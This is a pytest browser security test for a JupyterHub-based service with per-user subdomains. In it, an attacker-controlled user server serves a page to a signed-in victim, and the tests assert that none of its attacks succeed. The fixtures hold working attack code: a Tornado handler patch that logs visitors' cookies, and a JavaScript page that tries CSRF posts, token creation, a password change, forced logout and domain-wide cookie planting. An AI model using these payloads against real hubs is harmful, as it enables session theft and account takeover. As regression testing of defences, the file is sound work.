"""Per-user subdomains: pages work, and a page that one user's server sends acts as nobody else.

Mallory's server runs what mallory likes: here it answers anybody with a page of hers. The victim,
signed in, opens it.
"""

import json
import sqlite3
from contextlib import closing

import pytest

from goodman_live.hub.accounts.proposals import create_proposal, member_soar_ids
from goodman_live.hub.accounts.users import authenticate, create_user, find_user
from tests.browser.site import GOOD, running, signed_in

pytestmark = pytest.mark.browser

DOMAIN = "goodman.localhost"
SOAR_ID = "SOAR2026B-020"

TAKEN_OVER = '''
from pathlib import Path
import tornado.web

class Sent(tornado.web.RequestHandler):
    """Answers anybody, and keeps what their browser sent along."""

    def get(self):
        with Path("cookies.txt").open("a") as sink:
            sink.write(self.request.headers.get("Cookie", "") + "\\n")
        self.set_header("Content-Type", "text/html")
        self.finish(Path("evil.html").read_text())

usual = tornado.web.Application.find_handler

def find_handler(self, request, **words):
    if request.path.endswith("/evil.html"):
        return self.get_handler_delegate(request, Sent)
    return usual(self, request, **words)

tornado.web.Application.find_handler = find_handler
'''
"""In mallory's own Jupyter configuration, which her server reads as it starts."""

EVIL = """<!doctype html><title>Look at my spectrum</title><iframe name="frame"></iframe><script>
const hub = "%(hub)s", service = hub + "/services/goodman/api/", victim = "%(victim)s";
const told = {};
async function attempt(name, act) {
  try { told[name] = await act(); } catch (error) { told[name] = "refused: " + error.name; }
}
const read = (url, more) => async () => {
  const answer = await fetch(url, { credentials: "include", ...more });
  return "read: " + answer.status + " " + (await answer.text()).slice(0, 80);
};
const send = (url, fields) => async () => {
  const form = document.createElement("form");
  form.method = "POST"; form.action = url; form.target = "frame";
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    input.name = name; input.value = value; form.append(input);
  }
  document.body.append(form);
  const loaded = new Promise((done) => {
    document.querySelector("iframe").addEventListener("load", done, { once: true });
    setTimeout(done, 3000);
  });
  form.submit();
  await loaded;
  try { return "read: " + frames.frame.document.body.innerText.slice(0, 80); }
  catch (error) { return "refused: " + error.name; }
};
const blind = (url, body, type) => async () => {
  await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body,
    headers: { "Content-Type": type } });
  return "sent";
};
async function attack() {
  await attempt("me", read(service + "users/me/"));
  await attempt("files", read(service + "files/"));
  await attempt("hub user", read(hub + "/hub/api/user"));
  await attempt("their folder", read(victim + "api/contents"));
  await attempt("their kernels", read(victim + "api/kernels"));
  await attempt("token", read(hub + "/hub/api/users/victim/tokens", { method: "POST" }));
  await attempt("with a proof of ours", read(service + "users/me/", { method: "PATCH",
    headers: { "X-XSRFToken": "evil", "Content-Type": "application/json" },
    body: '{"partner": "Evil"}' }));
  // A subdomain may plant cookies for the whole domain.
  for (const path of ["/", "/hub/", "/services/goodman/", "/services/goodman/api/"])
    for (const name of ["_xsrf", "jupyterhub-session-id", "service-goodman"])
      document.cookie = name + "=evil; domain=%(domain)s; path=" + path;
  const collaborator = JSON.stringify({ email: "mallory@example.org", action: "add" });
  await attempt("blind 1", blind(service + "proposals/collaborators/%(proposal)s/?_xsrf=evil",
    collaborator, "text/plain"));
  await attempt("blind 2", blind(hub + "/hub/api/users/victim/tokens?_xsrf=evil", "{}",
    "text/plain"));
  await attempt("blind 3", blind(victim + "api/kernels?_xsrf=evil", "{}", "text/plain"));
  await attempt("form 1", send(service + "proposals/collaborators/%(proposal)s/",
    { email: "mallory@example.org", action: "add", _xsrf: "evil" }));
  await attempt("form 2", send(hub + "/hub/change-password",
    { old: "x", new: "my-own-choice-1", again: "my-own-choice-1", _xsrf: "evil" }));
  await attempt("form 3", send(victim + "api/contents", { _xsrf: "evil" }));
  // Loads that browsers send cookies along with: signing out ends sessions and notebooks.
  await attempt("sign out 1", () => new Promise((done, fail) => {
    const image = new Image();
    image.onload = () => done("read"); image.onerror = () => fail(new Error());
    image.src = hub + "/hub/logout"; }));
  await attempt("sign out 2", send(hub + "/hub/logout", { _xsrf: "evil" }));
  await attempt("sign out 3", async () => {
    const other = window.open(hub + "/hub/logout");
    for (let look = 0; look < 25; look++) await new Promise((done) => setTimeout(done, 200));
    return "read " + other.document.title; });
  await attempt("image", () => new Promise((done, fail) => {
    const image = new Image();
    image.onload = () => done("read"); image.onerror = () => fail(new Error());
    image.src = service + "files/visualize/?id=1"; }));
  await attempt("events", () => new Promise((done, fail) => {
    const source = new EventSource(service + "events/?since=0", { withCredentials: true });
    source.onopen = () => done("read"); source.onerror = () => fail(new Error()); }));
  await attempt("socket", () => new Promise((done, fail) => {
    const socket = new WebSocket(victim.replace("http", "ws") + "api/events/subscribe");
    socket.onopen = () => done("read"); socket.onerror = () => fail(new Error()); }));
  await attempt("frame", async () => {
    const frame = document.querySelector("iframe");
    const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 3000); });
    frame.src = service + "docs/";
    await loaded;
    return "read " + frame.contentDocument.title; });
  await attempt("window", async () => {
    const other = window.open(service + "docs/");
    for (let look = 0; look < 100 && !other.document.title; look++)
      await new Promise((done) => setTimeout(done, 200));  // about:blank can be read
    return "read " + other.document.title; });
  return told;
}
</script>"""

PLANT = """([domain, cookies]) => {
  for (const { name, value } of cookies)
    for (const called of [name, name.replace("__Host-", "")])
      for (const path of ["/", "/hub", "/hub/", "/services/goodman/", "/services/goodman/api/"])
        document.cookie = `${called}=${value}; domain=${domain}; path=${path}; secure`;
  return document.cookie;  // what was written is written
}"""
"""What mallory's page may do with cookies of her own."""


def fill(site, session):
    """Make mallory, whose server sends what she likes, and her victim with a proposal."""
    for name in ("mallory", "victim"):
        create_user(session, username=name, email=f"{name}@example.org", password=GOOD)
    pi = find_user(session, "victim")
    proposal = create_proposal(session, soar_id=SOAR_ID, pi=pi, title="A quiet title").id
    home = site.root / "home" / "mallory"
    (home / ".jupyter").mkdir(parents=True)
    (home / ".jupyter" / "jupyter_config.py").write_text(TAKEN_OVER)
    words = {"hub": site.hub, "victim": site.server("victim"), "domain": DOMAIN}
    (home / "evil.html").write_text(EVIL % {**words, "proposal": proposal})


@pytest.fixture(scope="module")
def site(project):
    with running(project, fill, DOMAIN) as made:
        yield made


@pytest.fixture(scope="module")
def victim(browser, site):
    with signed_in(browser, site, "victim") as page:
        page.get_by_text("A quiet title").first.wait_for(timeout=300_000)
        yield page


@pytest.fixture(scope="module")
def told(browser, site, victim):
    """Let the victim open mallory's page; return what its attacks say."""
    with signed_in(browser, site, "mallory"):
        # Signed in at the service too, so that there is something to steal.
        victim.goto(f"{site.hub}/services/goodman/api/docs/")
        own = """fetch('../users/me/', {headers: {
            'X-XSRFToken': document.cookie.match(/_xsrf=([^;]+)/)[1]}}).then(a => a.json())"""
        assert victim.evaluate(own)["username"] == "victim", "the same can be read from its own"
        victim.goto(f"{site.server('mallory')}evil.html")
        assert victim.title() == "Look at my spectrum"
        return victim.evaluate("attack()")


def test_pages_work_and_lead_to_the_service_and_the_hub(site, victim):
    docs = victim.get_by_role("link", name="API Docs").get_attribute("href")
    assert docs == f"{site.hub}/services/goodman/api/docs/"
    leave = victim.get_by_role("link", name="Sign out").get_attribute("href")
    assert leave == f"{site.hub}/hub/logout"
    page = victim.context.new_page()
    page.goto(docs)
    page.get_by_text("api_files_list").first.wait_for(state="attached")
    assert page.url == docs
    page.close()


def test_nothing_of_the_victims_can_be_read(told):
    assert {name: said for name, said in told.items() if said.startswith("read")} == {}
    assert len(told) == 21


def test_nothing_was_changed_in_the_victims_name(site, told):
    assert told
    with site.sessions()() as session:
        assert find_user(session, "victim").partner != "Evil"
        assert member_soar_ids(session, find_user(session, "mallory")) == []
        assert authenticate(session, "victim", GOOD, "127.0.0.1").user is not None
    with closing(sqlite3.connect(site.root / "hub.sqlite")) as hub:
        notes = [note for (note,) in hub.execute("SELECT note FROM api_tokens")]
    assert not [note for note in notes if note and "api" in note.lower()], notes


def test_nobody_is_signed_out_by_a_page_of_another(site, told, victim):
    assert told
    page = victim.context.new_page()
    assert page.goto(f"{site.hub}/hub/home").status == 200
    assert page.locator("#g-name").inner_text() == "victim"
    page.close()


def test_a_session_that_a_page_plants_for_the_whole_domain_is_nobodys(browser, site, told):
    """It would be the victim's, too, who then worked in mallory's name."""
    assert told
    me = f"{site.hub}/services/goodman/api/users/me/"
    with signed_in(browser, site, "mallory") as own:
        own.goto(me)
        assert json.loads(own.locator("body").inner_text())["username"] == "mallory"
        hers = [one for one in own.context.cookies() if one["domain"].strip(".") == DOMAIN]
    with signed_in(browser, site, "victim") as page:
        page.goto(me)
        page.goto(f"{site.server('mallory')}evil.html")
        planted = page.evaluate(PLANT, [DOMAIN, hers])
        for name in ("jupyterhub-hub-login", "service-goodman"):
            assert f"{name}=" in planted, "the attack does plant what it may"
        page.goto(me)
        assert json.loads(page.locator("body").inner_text())["username"] == "victim"
        page.goto(f"{site.hub}/hub/home")
        assert page.locator("#g-name").inner_text() == "victim"


def test_the_victims_cookies_stay_on_their_own_hosts(site, told):
    assert told
    sent = (site.root / "home" / "mallory" / "cookies.txt").read_text()
    for name in ("jupyterhub-hub-login", "service-goodman=", "jupyterhub-user-victim"):
        assert name not in sent
